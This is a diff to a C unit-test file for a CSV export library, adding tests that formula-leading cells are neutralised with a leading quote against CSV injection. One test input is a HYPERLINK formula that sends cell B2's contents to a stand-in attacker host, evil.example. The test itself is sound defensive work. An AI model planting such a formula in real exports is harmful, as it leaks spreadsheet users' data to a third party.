@@ -237,6 +237,43 @@ static void test_csv_quoting(void **state)
 	csv_expect("'single' ;semi; \ttab", "'single' ;semi; \ttab");
 }
 
+/* cl_csv_cell of `in` with `flags` into a memory stream, against `want`. */
+static void cell_expect(const char *in, unsigned flags, const char *want)
+{
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *m = open_memstream(&buf, &len);
+
+	assert_non_null(m);
+	assert_int_equal(cl_csv_cell(m, in, flags), CL_OK);
+	fclose(m);
+	assert_string_equal(buf, want);
+	free(buf);
+}
+
+/* OWASP's CSV injection guard: a leading ' on formula-leading cells. */
+static void test_csv_formula_guard(void **state)
+{
+	static const char link[] = "=HYPERLINK(\"https://evil.example/?d=\"&B2,\"source\")";
+
+	(void)state;
+	cell_expect(link, 0, "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"source\"\")\"");
+	cell_expect(link, CL_CSV_RAW, "\"=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"source\"\")\"");
+	cell_expect("=1+2", 0, "'=1+2");
+	cell_expect("+1", 0, "'+1");
+	cell_expect("-5% growth", 0, "'-5% growth");
+	cell_expect("@SUM(A1)", 0, "'@SUM(A1)");
+	cell_expect("\tcmd", 0, "'\tcmd");
+	cell_expect("\rcmd", 0, "\"'\rcmd\"");
+	cell_expect("-5,6", 0, "\"'-5,6\"");
+	cell_expect("=1+2", CL_CSV_RAW, "=1+2");
+	cell_expect("", 0, "");
+	cell_expect("a=b", 0, "a=b");
+	cell_expect(" =1", 0, " =1");
+	cell_expect("'quoted", 0, "'quoted");
+	cell_expect("2021-11-22", 0, "2021-11-22");
+}
+
 static void test_csv_export(void **state)
 {
 	struct fx *f = *state;
@@ -252,7 +289,7 @@ static void test_csv_export(void **state)
 	v = append(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"misleading\"}", c);
 	m = open_memstream(&buf, &len);
 	assert_non_null(m);
-	assert_cl_ok(cl_facts_csv(f->l, m, &rows, &err), &err);
+	assert_cl_ok(cl_facts_csv(f->l, m, 0, &rows, &err), &err);
 	fclose(m);
 	assert_int_equal(rows, 1);
 	cl_hex_encode(hex, f->id[c], CL_HASH_BYTES);
@@ -436,6 +473,7 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_scale),
 		cmocka_unit_test(test_csv_quoting),
+		cmocka_unit_test(test_csv_formula_guard),
 		cmocka_unit_test(test_speaker_kind),
 		cmocka_unit_test_setup_teardown(test_current_view, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_not_a_claim, setup, teardown),
